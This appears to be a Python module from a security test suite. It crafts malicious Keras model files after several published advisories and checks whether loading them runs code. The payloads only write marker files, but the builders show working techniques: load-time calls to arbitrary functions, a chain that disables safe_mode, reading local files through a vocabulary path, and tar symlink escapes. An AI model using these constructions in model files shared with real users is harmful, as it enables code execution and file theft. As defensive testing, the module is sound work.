"""Model files crafted after the published advisories about loading a Keras model, built at test
time from each advisory's description, and what loading each one did.

Only `spec.untrusted_loading` runs this module, in a fresh interpreter: nothing here is imported
by a test process. Every payload is harmless: it creates a file or directory inside the marker
directory the loader names (`marks/<advisory>/`) and nothing else; a network address never appears
(a "download" is a file:// URL inside the same directory). `ADVISORIES` maps each advisory to its
builder and the way its text says the file is loaded.
"""

from __future__ import annotations

import codecs
import io
import json
import marshal
import os
import tarfile
import zipfile
from pathlib import Path

from spec import untrusted_loading as ul

SECRET = "not-for-the-model\nsecond-line\n"


def _keras():
    import tensorflow as tf

    return tf.keras


def _rewrite_config(path: Path, change) -> Path:
    """Apply `change(config)` to the config.json of the .keras archive at `path`, in place."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    change(config)
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _save(model, path: Path) -> Path:
    """`model.save(path)` as a .keras zip archive (TF 2.12 writes HDF5 under that name unless
    told save_format='keras_v3')."""
    model.save(str(path))
    if not zipfile.is_zipfile(path):
        model.save(str(path), save_format="keras_v3")
    return path


def _functional(keras, path: Path, layer=None) -> Path:
    inputs = keras.Input((3,), name="x")
    layer = layer or keras.layers.Dense(2, name="dense")
    return _save(keras.Model(inputs, layer(inputs)), path)


def _bytecode(function) -> list:
    """A Python function as Keras 3's config holds a lambda: its marshalled code in base64, its
    defaults and closure (none here)."""
    code = codecs.encode(marshal.dumps(function.__code__), "base64").decode("ascii")
    return [code, None, None]


def _function(module: str, name: str) -> dict:
    """A function named by its module and name, as config.json refers to one."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _call_at_load(name: str, function: dict, inputs, arguments: dict) -> dict:
    """A Lambda layer of a functional model whose function is named by module and name, called
    once while the model is rebuilt, on `inputs` from the file (passed by keyword: Keras 3 takes
    only tensors positionally) and with `arguments` from the file."""
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": name, "function": function, "arguments": arguments},
        "registered_name": None,
        "name": name,
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": inputs}}],
    }


def _insert_gadget(config: dict, gadget: dict) -> None:
    if config.get("class_name") not in ("Functional", "Model"):
        raise ValueError(f"expected a functional model's config, got {config.get('class_name')}")
    config["config"]["layers"].insert(1, gadget)


def any_module_function(directory: Path, mark: Path) -> Path:
    """CVE-2025-1550: config.json names a function of any module (here os.mkdir) and the input
    it is called on; Keras imports the module and calls it while rebuilding the model."""
    path = _functional(_keras(), directory / "any_module.keras")
    gadget = _call_at_load("gadget", _function("os", "mkdir"), str(mark), {})
    return _rewrite_config(path, lambda c: _insert_gadget(c, gadget))


def get_file_gadget(directory: Path, mark: Path) -> Path:
    """CVE-2025-8747: config.json calls keras.utils.get_file, a Keras function that the module
    allowlist of 3.9 lets through, to fetch a file and write it where the file says."""
    source = directory / "get_file_source.txt"
    source.write_text("fetched by keras.utils.get_file while loading\n", encoding="utf-8")
    path = _functional(_keras(), directory / "get_file.keras")
    arguments = {"origin": source.as_uri(), "cache_dir": str(mark.parent), "cache_subdir": "."}
    gadget = _call_at_load("gadget", _function("keras.utils", "get_file"), mark.name, arguments)
    return _rewrite_config(path, lambda c: _insert_gadget(c, gadget))


def enable_unsafe_then_lambda(directory: Path, mark: Path) -> Path:
    """CVE-2025-9906: config.json first calls keras.config.enable_unsafe_deserialization (through
    keras.ops.cond(True, it, it)), so that a Python lambda's bytecode given as the input of the
    next call (keras.ops.map(it, np.array([0.0]))) loads and runs despite safe_mode."""
    keras = _keras()
    path = _functional(keras, directory / "enable_unsafe.keras")
    switch = _function("keras.config", "enable_unsafe_deserialization")
    first = _call_at_load(
        "gadget", _function("keras.ops", "cond"), True, {"true_fn": switch, "false_fn": switch}
    )
    bytecode = {"class_name": "__lambda__", "config": {"value": _bytecode(ul.LEAVE_MARK)}}
    one_row = {"class_name": "__numpy__", "config": {"value": [0.0], "dtype": "float32"}}
    then = _call_at_load("payload", _function("keras.ops", "map"), bytecode, {"xs": one_row})

    def change(config):
        _insert_gadget(config, then)
        _insert_gadget(config, first)

    return _rewrite_config(path, change)


def h5_lambda(directory: Path, mark: Path) -> Path:
    """CVE-2025-9905 (and CVE-2024-3660 for .keras): a Lambda layer's bytecode in an .h5 file."""
    path = directory / "lambda.h5"
    ul.lambda_model(ul.LEAVE_MARK).save(str(path))
    return path


def keras_lambda(directory: Path, mark: Path) -> Path:
    """CVE-2024-3660: a Lambda layer's bytecode in a .keras file."""
    return _save(ul.lambda_model(ul.LEAVE_MARK), directory / "lambda.keras")


def tfsm_layer(directory: Path, mark: Path) -> Path:
    """CVE-2026-1462: a TFSMLayer whose config points at a SavedModel outside the archive, whose
    graph writes a file when the model predicts."""
    import tensorflow as tf

    class Writes(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32)])
        def serve(self, x):
            tf.io.write_file(str(mark), "written by the SavedModel's graph")
            return {"output": x}

    module = Writes()
    saved = directory / "attacker_savedmodel"
    tf.saved_model.save(module, str(saved), signatures={"serving_default": module.serve})
    keras = _keras()
    path = _functional(keras, directory / "tfsm.keras", keras.layers.Activation("linear"))

    def change(config):
        layer = config["config"]["layers"][1]
        layer.update(
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "registered_name": "TFSMLayer",
                "config": {
                    "name": layer["config"]["name"],
                    "trainable": False,
                    "filepath": str(saved),
                    "call_endpoint": "serving_default",
                    "call_training_endpoint": None,
                },
            }
        )
        layer.pop("build_config", None)

    return _rewrite_config(path, change)


def vocabulary_path(directory: Path, mark: Path) -> Path:
    """CVE-2025-12058: a StringLookup whose config gives its vocabulary as a path outside the
    archive: loading reads that file (tf.io.gfile also reads URLs)."""
    secret = mark.parent / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    keras = _keras()
    path = directory / "vocabulary.keras"
    _save(
        keras.Sequential(
            [keras.Input((1,), dtype="string"), keras.layers.StringLookup(vocabulary=["a", "b"])]
        ),
        path,
    )

    def change(config):
        lookup = config["config"]["layers"][-1]["config"]
        lookup["vocabulary"] = str(secret)

    return _rewrite_config(path, change)


def _tar_through_link(path: Path, mark: Path) -> Path:
    """A tar archive whose member `link` is a symbolic link to the marker directory (outside the
    extraction directory) and whose member `link/escaped` is a file: extracting it in full writes
    `escaped` in the marker directory."""
    (mark.parent / "cache" / "datasets").mkdir(parents=True)
    with tarfile.open(path, "w") as archive:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, str(mark.parent)
        archive.addfile(link)
        data = b"extracted outside the extraction directory"
        member = tarfile.TarInfo("link/escaped")
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return path


def tar_symlink_member(directory: Path, mark: Path) -> Path:
    """CVE-2025-12060: a downloaded archive (get_file(..., extract=True)) with a symbolic link
    out of the extraction directory and a file behind it; extracted in its own directory."""
    return _tar_through_link(directory / "traversal.tar", mark)


def tar_within_cwd(directory: Path, mark: Path) -> Path:
    """GHSA-hqp4-2352-xf5r: the same archive, extracted while the working directory contains the
    link's target: the check of 3.12 compared against the working directory, not the extraction
    directory."""
    return _tar_through_link(directory / "traversal_cwd.tar", mark)


# What `load_model` is told: the advisory's safe_mode (None: the default), unless UNSAFE (the
# suite's own test of where a payload can write makes every payload run that can).
UNSAFE = {"value": False}


def _load_model(path: Path, safe_mode=None):
    if UNSAFE["value"]:
        safe_mode = False
    kwargs = {} if safe_mode is None else {"safe_mode": safe_mode}
    return _keras().models.load_model(str(path), **kwargs)


def _load(safe_mode=None):
    return lambda path, mark: _load_model(path, safe_mode)


def _load_and_predict(path: Path, mark: Path):
    import numpy as np

    model = _load_model(path, safe_mode=True)
    model(np.ones((1, 3), np.float32))
    return model


def _load_vocabulary(path: Path, mark: Path):
    model = _load_model(path, safe_mode=True)
    vocabulary = model.layers[-1].get_vocabulary()
    if any(word in vocabulary for word in SECRET.split()):
        (mark.parent / "read").write_text("\n".join(map(str, vocabulary)), encoding="utf-8")
    return model


def _extract(path: Path, mark: Path):
    """`keras.utils.get_file(origin=file://..., extract=True)` with its cache inside the marker
    directory; the working directory is the marker directory for the `_cwd` archive, else the
    extraction directory itself."""
    cache = mark.parent / "cache"
    cwd = os.getcwd()
    os.chdir(mark.parent if path.stem.endswith("_cwd") else cache / "datasets")
    try:
        return _keras().utils.get_file(
            fname=path.name, origin=path.as_uri(), cache_dir=str(cache), extract=True
        )
    finally:
        os.chdir(cwd)


def _effects(marks: Path, before: set[Path]) -> list[str]:
    """What the payload made in its marker directory: new paths, except what get_file puts
    inside its own datasets folder."""
    new = set(marks.rglob("*")) - before
    inside = marks / "cache" / "datasets"
    return sorted(str(p.relative_to(marks)) for p in new if p != inside and inside not in p.parents)


# advisory: (clause, builder, how the advisory says the file is loaded)
ADVISORIES = {
    "CVE-2024-3660": ("SAFETY.LAMBDA.KERAS_DEFAULT", keras_lambda, _load()),
    "CVE-2025-9905": ("SAFETY.LAMBDA.H5_SAFE_MODE", h5_lambda, _load(True)),
    "CVE-2025-1550": ("SAFETY.CONFIG.ANY_MODULE", any_module_function, _load(True)),
    "CVE-2025-8747": ("SAFETY.CONFIG.GET_FILE", get_file_gadget, _load(True)),
    "CVE-2025-9906": ("SAFETY.CONFIG.ENABLE_UNSAFE", enable_unsafe_then_lambda, _load(True)),
    "CVE-2025-12058": ("SAFETY.VOCABULARY.LOCAL_FILE", vocabulary_path, _load_vocabulary),
    "CVE-2026-1462": ("SAFETY.TFSMLAYER.EXTERNAL_SAVEDMODEL", tfsm_layer, _load_and_predict),
    "CVE-2025-12060": ("SAFETY.ARCHIVE.SYMLINK_MEMBER", tar_symlink_member, _extract),
    "GHSA-hqp4-2352-xf5r": ("SAFETY.ARCHIVE.WITHIN_CWD", tar_within_cwd, _extract),
}


def run(directory: Path, unsafe: bool = False) -> dict:
    """Build and load each advisory's file in `directory`; per advisory: its clause, whether the
    file was built, raised (class and message of what the user sees), touched (what the payload
    made in its marker directory, `marks/<advisory>/`) and ran_code (whether it made anything).
    `unsafe` loads with safe_mode=False throughout."""
    UNSAFE["value"] = unsafe
    report = {}
    for advisory, (clause, build, load) in ADVISORIES.items():
        marks = directory / "marks" / advisory
        marks.mkdir(parents=True)
        mark = marks / "mark"
        outcome = {"clause": clause, "built": False, "raised": None, "message": ""}
        before = set()
        try:
            path = build(directory, mark)
            outcome["built"], before = True, set(marks.rglob("*"))
            os.environ[ul.MARK_VARIABLE] = str(mark)
            load(path, mark)
        except Exception as exc:
            text = str(exc)
            text = text if len(text) <= 700 else f"{text[:350]} … {text[-350:]}"
            outcome["raised"], outcome["message"] = type(exc).__name__, text
            if not outcome["built"]:  # what the builder made is no payload's doing
                before = set(marks.rglob("*"))
        finally:
            os.environ.pop(ul.MARK_VARIABLE, None)
        outcome["touched"] = _effects(marks, before)
        outcome["ran_code"] = bool(outcome["touched"])
        report[advisory] = outcome
    return report
